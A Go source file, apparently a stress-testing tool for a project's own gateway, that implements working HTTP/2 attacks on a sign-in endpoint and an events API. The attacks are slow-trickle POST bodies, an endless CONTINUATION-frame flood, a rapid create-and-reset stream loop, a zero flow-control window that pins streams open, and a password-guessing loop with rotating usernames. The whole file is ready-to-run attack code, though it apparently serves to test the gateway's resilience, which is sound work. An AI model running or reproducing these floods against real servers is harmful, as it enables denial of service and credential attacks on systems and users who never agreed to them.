package main

import (
	"bytes"
	"context"
	"io"
	"net"
	"strconv"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"latchkey/gateway/admin/api"
)

// session is an HTTP/2 connection that ignores the limits of the other side.
type session struct {
	f     *flood
	heard chan struct{} // closed when the connection has ended

	mu     sync.Mutex
	frames *http2.Framer // guarded by mu, for writing
	enc    *hpack.Encoder
	buf    bytes.Buffer
	next   uint32
	under  int // requests that have no answer yet
}

// begin sends the preface and the settings. window is how many bytes of each answer the other side
// may send.
func (f *flood) begin(c net.Conn, window uint32) (*session, error) {
	s := &session{f: f, heard: make(chan struct{}), frames: http2.NewFramer(c, c), next: 1}
	s.enc = hpack.NewEncoder(&s.buf)
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil, err
	}
	if err := s.frames.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize,
		Val: window}); err != nil {
		return nil, err
	}
	go s.listen()
	return s, nil
}

// listen reads frames and does only what HTTP/2 requires.
func (s *session) listen() {
	defer close(s.heard)
	dec := hpack.NewDecoder(4096, nil)
	for {
		fr, err := s.frames.ReadFrame()
		if err != nil {
			return
		}
		switch fr := fr.(type) {
		case *http2.SettingsFrame:
			if !fr.IsAck() {
				err = s.write(func() error { return s.frames.WriteSettingsAck() })
			}
		case *http2.PingFrame:
			if !fr.IsAck() {
				err = s.write(func() error { return s.frames.WritePing(true, fr.Data) })
			}
		case *http2.DataFrame:
			if n := uint32(len(fr.Data())); n > 0 {
				err = s.write(func() error { return s.frames.WriteWindowUpdate(0, n) })
			}
		case *http2.RSTStreamFrame:
			s.f.refused.Add(1)
			s.done()
		case *http2.HeadersFrame:
			s.f.answers.Add(1)
			s.done()
			if fields, err := dec.DecodeFull(fr.HeaderBlockFragment()); err == nil && len(fields) > 0 &&
				fields[0].Value >= "400" {
				s.f.refused.Add(1)
			}
		}
		if err != nil {
			return
		}
	}
}

func (s *session) done() {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.under--
}

func (s *session) write(f func() error) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return f()
}

// head sends the header of a request on a new stream. If end is false, a body follows; if whole is
// false, more of the header follows.
func (s *session) head(method, path string, end, whole bool,
	more ...hpack.HeaderField) (stream uint32, err error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	stream = s.next
	s.next += 2
	s.under++
	s.buf.Reset()
	fields := append([]hpack.HeaderField{{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: s.f.host},
		{Name: ":path", Value: path}}, more...)
	for _, h := range fields {
		if err := s.enc.WriteField(h); err != nil {
			return 0, err
		}
	}
	s.f.requests.Add(1)
	return stream, s.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: stream,
		BlockFragment: s.buf.Bytes(), EndStream: end, EndHeaders: whole})
}

var form = hpack.HeaderField{Name: "content-type", Value: "application/x-www-form-urlencoded"}

// pace calls do again and again until it fails or the connection ends.
func (s *session) pace(ctx context.Context, every time.Duration, do func() error) error {
	t := time.NewTicker(every)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return nil
		case <-s.heard:
			return io.EOF
		case <-t.C:
			if err := s.write(do); err != nil {
				return err
			}
		}
	}
}

func (f *flood) posts(ctx context.Context, c net.Conn) error {
	s, err := f.begin(c, 65535)
	if err != nil {
		return err
	}
	var streams []uint32
	for range f.streams {
		id, err := s.head("POST", "/sign-in", false, true, form)
		if err != nil {
			return err
		}
		streams = append(streams, id)
	}
	return s.pace(ctx, trickle, func() error {
		for _, id := range streams {
			if err := s.frames.WriteData(id, false, []byte("x")); err != nil {
				return err
			}
		}
		return nil
	})
}

func (f *flood) events(ctx context.Context, c net.Conn) error {
	s, err := f.begin(c, 65535)
	if err != nil {
		return err
	}
	for range f.streams {
		if _, err := s.head(api.StreamEvents.Method, "/api"+api.StreamEvents.Path, true, true,
			hpack.HeaderField{Name: "authorization", Value: "Bearer " + f.token}); err != nil {
			return err
		}
	}
	return s.pace(ctx, time.Second, func() error { return s.frames.WritePing(false, [8]byte{1}) })
}

func (f *flood) continuations(ctx context.Context, c net.Conn) error {
	s, err := f.begin(c, 65535)
	if err != nil {
		return err
	}
	id, err := s.head("GET", "/sign-in", true, false)
	if err != nil {
		return err
	}
	return s.pace(ctx, trickle, func() error {
		s.buf.Reset()
		if err := s.enc.WriteField(hpack.HeaderField{Name: "x-more", Value: "more",
			Sensitive: true}); err != nil {
			return err
		}
		return s.frames.WriteContinuation(id, false, s.buf.Bytes())
	})
}

func (f *flood) resets(ctx context.Context, c net.Conn) error {
	s, err := f.begin(c, 65535)
	if err != nil {
		return err
	}
	for ctx.Err() == nil {
		id, err := s.head("GET", "/sign-in", true, true)
		if err == nil {
			err = s.write(func() error { return s.frames.WriteRSTStream(id, http2.ErrCodeCancel) })
		}
		if err != nil {
			return err
		}
	}
	return nil
}

// unread sets a window of 0, so that the other side cannot send a byte of any answer.
func (f *flood) unread(ctx context.Context, c net.Conn) error {
	s, err := f.begin(c, 0)
	if err != nil {
		return err
	}
	for range f.streams {
		if _, err := s.head("GET", "/sign-in", true, true); err != nil {
			return err
		}
	}
	return s.pace(ctx, time.Second, func() error { return s.frames.WritePing(false, [8]byte{1}) })
}

// passwords keeps a few tries under way on each connection, each with a different name.
func (f *flood) passwords(ctx context.Context, c net.Conn) error {
	s, err := f.begin(c, 65535)
	if err != nil {
		return err
	}
	for ctx.Err() == nil {
		s.mu.Lock()
		free := s.under < min(8, f.streams)
		s.mu.Unlock()
		if !free {
			select {
			case <-s.heard:
				return io.EOF
			case <-time.After(5 * time.Millisecond):
				continue
			}
		}
		id, err := s.head("POST", "/sign-in", false, true, form)
		if err != nil {
			return err
		}
		text := "name=n" + strconv.FormatInt(f.requests.Load(), 36) + "&password=not+this+one+either"
		if err := s.write(func() error { return s.frames.WriteData(id, true, []byte(text)) }); err != nil {
			return err
		}
	}
	return nil
}
